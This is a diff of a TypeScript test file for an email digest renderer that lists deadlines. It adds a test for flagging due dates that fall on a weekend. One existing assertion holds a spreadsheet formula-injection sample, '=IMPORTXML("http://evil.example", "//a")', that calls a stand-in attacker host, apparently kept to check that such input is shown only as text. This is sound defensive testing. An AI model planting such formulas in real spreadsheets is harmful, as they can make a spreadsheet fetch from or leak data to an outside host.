@@ -23,6 +23,7 @@ function item(fields: Partial<DigestItem>): DigestItem {
     deadlineText: 'май 2021г.',
     due: '2021-05-31',
     daysLeft: -15,
+    dueOff: false,
     step: 'escalation',
     stepName: 'escalation-1',
     result: 'Утвержденный порядок',
@@ -159,6 +160,17 @@ describe('renderDigest', () => {
     expect(body).toContain('=IMPORTXML("http://evil.example", "//a")');
     expect(body).not.toMatch(/<(div|p|a|br|h3|span)\b/);
     expect(subject).not.toMatch(/[\r\n]/);
+  });
+
+  it('keeps a due date on a non-working day as written and says «выпадает на выходной» next to it', () => {
+    const mail = renderDigest(
+      digest([item({ deadlineText: 'до 13.06.2021', due: '2021-06-13', daysLeft: 2, dueOff: true, step: 'before' })]),
+      context,
+    );
+    expect(mail.body).toContain('Срок: до 13.06.2021, выпадает на выходной — осталось 2 дня');
+    expect(mail.htmlBody).toContain('до 13.06.2021, выпадает на выходной');
+    const workday = renderDigest(digest([item({ dueOff: false })]), context);
+    expect(workday.body).not.toContain('выпадает на выходной');
   });
 
   it('shows a link that is not http(s) as text, never as an anchor', () => {
